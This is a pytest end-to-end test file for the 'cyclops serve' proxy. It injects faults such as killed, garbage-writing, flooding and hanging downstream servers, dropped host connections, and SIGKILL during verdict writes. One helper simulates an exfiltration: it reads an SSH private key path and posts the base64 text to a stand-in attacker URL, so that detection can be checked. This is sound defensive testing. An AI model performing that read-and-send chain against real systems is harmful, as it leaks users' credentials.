"""Faults around a real ``cyclops serve``: a downstream killed with SIGKILL in the middle of a
call, one that writes garbage to its stdout, one that floods notifications, one that hangs
while other HTTP sessions go on; the host going away in the middle of a call (stdio: its pipes
close; HTTP: its connection is reset); and cyclops itself killed with SIGKILL while it writes,
over and over: its verdicts and its decision log are never torn.

tests/e2e/test_robustness.py covers a server that exits in a call, one that hangs (stdio), one
that never starts, and cyclops's own shutdown; this file does not repeat those.

The misbehaving downstream is tests/e2e/servers/rawline.py, written without the SDK so that it
can send anything; it logs every message it receives (``--log``), which is how a test knows
that a call has reached it.
"""

from __future__ import annotations

import base64
import json
import os
import pydoc_data.topics
import signal
import socket
import struct
import time
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import anyio
import httpx2
import jsonschema
import pytest
from e2e_support import (
    ATTACKER_URL,
    HOSTILE,
    INITIALIZE_PARAMS,
    PYTHON,
    RAWLINE,
    SCHEMA_PATH,
    Host,
    LineHost,
    ProcessId,
    alive,
    call_tool,
    connect_http,
    descendants,
    http_cyclops,
    kill_all,
    line_host,
    load_json,
    peak_rss_mib,
    python_server_entry,
    reset_peak_rss,
    rss_mib,
    serve_args,
    server_entry,
    survivors,
    text_of,
    write_downstream,
)

from cyclops.report.audit import AuditStatus, verify

pytestmark = pytest.mark.anyio

PAGE = {"url": "https://blog.example.org/"}


def raw_entry(log: Path, timeout: float) -> str:
    return server_entry("raw", PYTHON, [RAWLINE, "--log", str(log)], timeout=timeout)


def raw_and_web(folder: Path, raw_log: Path, timeout: float) -> Path:
    """A downstream.toml in ``folder``: the raw-line server (``timeout`` per call) and the
    demo's web server, which keeps serving whatever happens to the raw one."""
    web = python_server_entry("web", "cyclops.examples.servers.web")
    return write_downstream(folder / "downstream.toml", [raw_entry(raw_log, timeout), web])


async def reached(log: Path, tool: str, count: int = 1) -> None:
    """Wait (bounded) until the raw server has received ``count`` calls of ``tool``."""

    def calls() -> int:
        if not log.exists():
            return 0
        received = [json.loads(line)["message"] for line in log.read_text().splitlines()]
        return sum(
            1
            for m in received
            if m.get("method") == "tools/call" and (m.get("params") or {}).get("name") == tool
        )

    with anyio.fail_after(15):
        while calls() < count:
            await anyio.sleep(0.02)


@dataclass
class Faults:
    host: LineHost
    work: Path
    raw_log: Path


@pytest.fixture(scope="module")
async def faults(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Faults]:
    work = tmp_path_factory.mktemp("faults")
    raw_log = work / "raw.log"
    downstream = raw_and_web(work, raw_log, timeout=30)
    args = serve_args(downstream, work / "verdicts", mode="prevent", extra=["--no-pins"])
    async with line_host(args, work / "cyclops.stderr") as host:
        yield Faults(host, work, raw_log)


async def whoami(host: LineHost) -> int:
    return int(text_of(await host.call("whoami", {})))


# -- a downstream killed mid-call ------------------------------------------------------------


async def test_a_downstream_killed_with_sigkill_mid_call_gives_an_error_result_and_comes_back(
    faults: Faults,
) -> None:
    host = faults.host
    pid = await whoami(host)
    [victim] = [p for p in descendants(host.process.pid) if p.pid == pid]
    hangs = host.new_id()
    await host.send(
        {"jsonrpc": "2.0", "id": hangs, "method": "tools/call", "params": {"name": "hang"}}
    )
    await reached(faults.raw_log, "hang")
    os.kill(pid, signal.SIGKILL)
    # The call ends at once with an error result (not at the server's 30 s timeout).
    answer = await host.response(hangs, timeout=10)
    assert answer["result"]["isError"] is True
    # The other server is not affected; the killed one is reaped and restarted.
    assert "<html>" in text_of(await host.call("fetch_page", PAGE))
    with anyio.fail_after(20):
        while True:
            result = await host.call("whoami", {})
            if result.get("isError") is not True:
                break
            await anyio.sleep(0.1)
    assert int(text_of(result)) != pid
    assert not alive(victim)


# -- a downstream that writes garbage --------------------------------------------------------


async def test_a_downstream_that_writes_garbage_to_stdout_still_answers_on_the_same_connection(
    faults: Faults,
) -> None:
    """Lines that are not JSON, bytes that are not UTF-8, JSON that is not JSON-RPC, a response
    to a request never made, 100,000 brackets: then the real answer. Before cyclops read a
    downstream's stdout with errors="replace", one byte that was not UTF-8 ended the SDK's
    reader, which then waited for the server to close its stdout: every later call timed out."""
    host = faults.host
    pid = await whoami(host)
    for _ in range(3):
        with anyio.fail_after(5):
            assert text_of(await host.call("garbage", {"count": 3})) == "after garbage"
    assert await whoami(host) == pid
    assert host.tracebacks() == []


# -- a downstream that floods notifications ----------------------------------------------------


async def test_a_downstream_flooding_notifications_neither_stalls_the_host_nor_grows_memory(
    faults: Faults,
) -> None:
    """20,000 log messages and 20,000 progress notifications, as fast as the pipe takes them.
    cyclops relays what the host can take and drops the rest (at most 64 in flight per
    server): before, the SDK started a task for each one, cyclops's memory grew by about
    250 MB, and a tools/list got no answer for over 20 s while the flood lasted."""
    host = faults.host
    pid = host.process.pid
    base = rss_mib(pid)
    reset_peak_rss(pid)
    flood = host.new_id()
    lines_before = len(host.lines)
    started = time.perf_counter()
    await host.send(
        {
            "jsonrpc": "2.0",
            "id": flood,
            "method": "tools/call",
            "params": {
                "name": "flood",
                "arguments": {"count": 20_000},
                "_meta": {"progressToken": 7},
            },
        }
    )
    await reached(faults.raw_log, "flood")
    slowest = 0.0
    while flood not in host.responses:
        asked = time.perf_counter()
        listing = await host.request("tools/list", timeout=30)
        slowest = max(slowest, time.perf_counter() - asked)
        assert "result" in listing
    answer = await host.response(flood, timeout=60)
    elapsed = time.perf_counter() - started
    assert text_of(answer["result"]) == "sent 20000 notifications"
    relayed = [json.loads(line).get("method") for line in host.lines[lines_before:]]
    assert "notifications/message" in relayed
    assert "notifications/progress" in relayed
    rate = 40_000 / elapsed
    assert slowest < 3.0, f"tools/list took {slowest:.2f} s during a flood of {rate:.0f}/s"
    assert peak_rss_mib(pid) - base < 100
    assert "result" in await host.request("ping")


# -- a downstream that hangs, with several HTTP sessions ---------------------------------------


async def test_a_call_hanging_in_one_http_session_holds_up_no_other_session(
    tmp_path: Path,
) -> None:
    raw_log = tmp_path / "raw.log"
    downstream = raw_and_web(tmp_path, raw_log, timeout=3)
    args = serve_args(downstream, tmp_path / "verdicts", extra=["--no-pins"])
    finished: list[str] = []
    async with (
        http_cyclops(args, tmp_path) as cyclops,
        connect_http(cyclops.url, cyclops.token, Host()) as first,
        connect_http(cyclops.url, cyclops.token, Host()) as second,
        anyio.create_task_group() as tg,
    ):

        async def hang() -> None:
            result = await call_tool(first, "hang")
            assert result["isError"] is True  # at the server's timeout
            finished.append("hang")

        tg.start_soon(hang)
        await reached(raw_log, "hang")
        with anyio.fail_after(2):  # well inside the hung call's 3 s
            assert text_of(await call_tool(second, "whoami")).isdigit()
            assert "<html>" in text_of(await call_tool(second, "fetch_page", PAGE))
        finished.append("other session")
    assert finished == ["other session", "hang"]
    assert cyclops.exit_code == 0


# -- the host going away mid-call --------------------------------------------------------------


@pytest.mark.parametrize("how", ["stdin closed", "stdin and stdout closed"])
async def test_a_stdio_host_going_away_mid_call_stops_cyclops_cleanly_with_every_child(
    tmp_path: Path, how: str
) -> None:
    raw_log = tmp_path / "raw.log"
    downstream = raw_and_web(tmp_path, raw_log, timeout=60)
    verdicts = tmp_path / "verdicts"
    args = serve_args(downstream, verdicts, extra=["--no-pins"])
    async with line_host(args, tmp_path / "cyclops.stderr") as host:
        await whoami(host)
        children = descendants(host.process.pid)
        await host.send(
            {"jsonrpc": "2.0", "id": 99, "method": "tools/call", "params": {"name": "hang"}}
        )
        await reached(raw_log, "hang")
        if how == "stdin and stdout closed":
            assert host.process.stdout is not None
            await host.process.stdout.aclose()
        assert host.process.stdin is not None
        await host.process.stdin.aclose()
        with anyio.fail_after(15):
            code = await host.process.wait()
        left = survivors(children)
        kill_all(left)
    assert (code, left) == (0, [])
    [verdict] = verdicts.glob("*.session.json")
    assert load_json(verdict)["metrics"]["calls"] == 2


async def _raw_session(url: str, token: str) -> str:
    """An HTTP session opened by hand (no SDK client that would close it politely)."""
    headers = {"Authorization": f"Bearer {token}", "Accept": "application/json, text/event-stream"}
    async with httpx2.AsyncClient(headers=headers, timeout=30) as http:
        init = {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": INITIALIZE_PARAMS}
        response = await http.post(url, json=init)
        assert response.status_code == 200
        session_id = response.headers["mcp-session-id"]
        headers = {"mcp-session-id": session_id, "mcp-protocol-version": "2025-11-25"}
        done = {"jsonrpc": "2.0", "method": "notifications/initialized"}
        assert (await http.post(url, json=done, headers=headers)).status_code == 202
        return session_id


def _reset_after_posting(port: int, token: str, session_id: str, body: bytes) -> socket.socket:
    """POST ``body`` over a plain socket; the caller resets the connection (RST, not FIN)."""
    request = (
        f"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nAuthorization: Bearer {token}\r\n"
        "Content-Type: application/json\r\nAccept: application/json, text/event-stream\r\n"
        f"mcp-session-id: {session_id}\r\nmcp-protocol-version: 2025-11-25\r\n"
        f"Content-Length: {len(body)}\r\n\r\n"
    ).encode()
    connection = socket.create_connection(("127.0.0.1", port), timeout=10)
    connection.sendall(request + body)
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    return connection


async def test_an_http_host_dropping_its_connection_mid_call_leaves_other_sessions_serving(
    tmp_path: Path,
) -> None:
    raw_log = tmp_path / "raw.log"
    downstream = raw_and_web(tmp_path, raw_log, timeout=60)
    args = serve_args(downstream, tmp_path / "verdicts", extra=["--no-pins"])
    async with (
        http_cyclops(args, tmp_path) as cyclops,
        connect_http(cyclops.url, cyclops.token, Host()) as other,
    ):
        assert text_of(await call_tool(other, "whoami")).isdigit()
        children = descendants(cyclops.process.pid)
        dropped = await _raw_session(cyclops.url, cyclops.token)
        call = {"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {"name": "hang"}}
        connection = _reset_after_posting(
            cyclops.port, cyclops.token, dropped, json.dumps(call).encode()
        )
        await reached(raw_log, "hang")
        connection.close()  # SO_LINGER 0: a reset, as when a host crashes
        for _ in range(3):
            with anyio.fail_after(5):
                assert "<html>" in text_of(await call_tool(other, "fetch_page", PAGE))
                assert text_of(await call_tool(other, "whoami")).isdigit()
        assert survivors(children) == children  # nothing died, nothing new was started
        assert sorted(p.pid for p in descendants(cyclops.process.pid)) == sorted(
            p.pid for p in children
        )
    assert cyclops.exit_code == 0  # and http_cyclops found no child left behind


# -- cyclops killed while it writes ------------------------------------------------------------

ROUNDS = 4
ROUNDS_OF_CALLS = 40
PRIVATE = "\n".join(pydoc_data.topics.topics.values())[:600]
"""What ``read_blob`` (hostile.py, ``text`` of 600 characters) returns."""


def _attack_round(host: LineHost) -> list[dict[str, Any]]:
    """An untrusted call, a read of a key path, a post of what it returned: a flagged
    exfiltration each time (detect mode), so the verdict grows with every round. One server
    (hostile.py, named ``web``) serves all three: each start of cyclops is quick."""
    text = base64.b64encode(PRIVATE.encode()).decode()
    steps = [
        ("ping", {}),
        ("read_blob", {"kind": "text", "size": 600, "path": "/home/me/.ssh/id_rsa"}),
        ("send_message", {"url": ATTACKER_URL, "text": text}),
    ]
    return [
        {
            "jsonrpc": "2.0",
            "id": host.new_id(),
            "method": "tools/call",
            "params": {"name": name, "arguments": arguments},
        }
        for name, arguments in steps
    ]


async def _gone(children: list[ProcessId]) -> list[ProcessId]:
    """The children still running once they had 10 s to see their input end."""
    with anyio.move_on_after(10):
        while survivors(children):
            await anyio.sleep(0.05)
    return survivors(children)


async def test_verdicts_and_the_decision_log_are_never_torn_when_cyclops_is_killed_while_writing(
    tmp_path: Path,
) -> None:
    """Each round pipes 120 calls into a fresh cyclops and kills it with SIGKILL after a
    different number of answers, while it rewrites the session's verdict (temp file + rename)
    and appends to the decision log (one write + fsync per line). Afterwards every verdict
    file is whole and valid, the log verifies (a torn last line is allowed: the next writer
    cuts it), and the killed cyclops's server exits by itself."""
    downstream = write_downstream(
        tmp_path / "downstream.toml", [server_entry("web", PYTHON, [HOSTILE])]
    )
    verdicts = tmp_path / "verdicts"
    decisions = tmp_path / "decisions.jsonl"
    extra = ["--no-pins", "--decision-log", str(decisions)]
    args = serve_args(downstream, verdicts, mode="detect", extra=extra)
    schema = load_json(SCHEMA_PATH)
    sent = 0
    for round_ in range(ROUNDS):
        async with line_host(args, tmp_path / f"cyclops-{round_}.stderr") as host:
            children = descendants(host.process.pid)
            requests = [r for _ in range(ROUNDS_OF_CALLS) for r in _attack_round(host)]
            sent += len(requests)
            for request in requests:
                await host.send(request)
            answered = 10 + round_ * 23
            await host.wait_until(lambda n=answered: len(host.responses) >= n, timeout=60)
            host.process.kill()
            assert [r for r in host.responses.values() if "result" not in r] == []
            with anyio.fail_after(10):
                assert await host.process.wait() == -signal.SIGKILL
            # Its server sees its input end and exits by itself: no orphan.
            left = await _gone(children)
            kill_all(left)
            assert left == []
        for path in verdicts.glob("*.session.json"):
            verdict = json.loads(path.read_text(encoding="utf-8"))  # whole, never torn
            jsonschema.validate(verdict, schema)
            assert verdict["metrics"]["calls"] <= sent
        assert verify(decisions).status in (AuditStatus.INTACT, AuditStatus.TORN)
    written = [load_json(path) for path in verdicts.glob("*.session.json")]
    assert len(written) == ROUNDS
    assert max(v["metrics"]["by_class"]["exfiltration"] for v in written) > 0
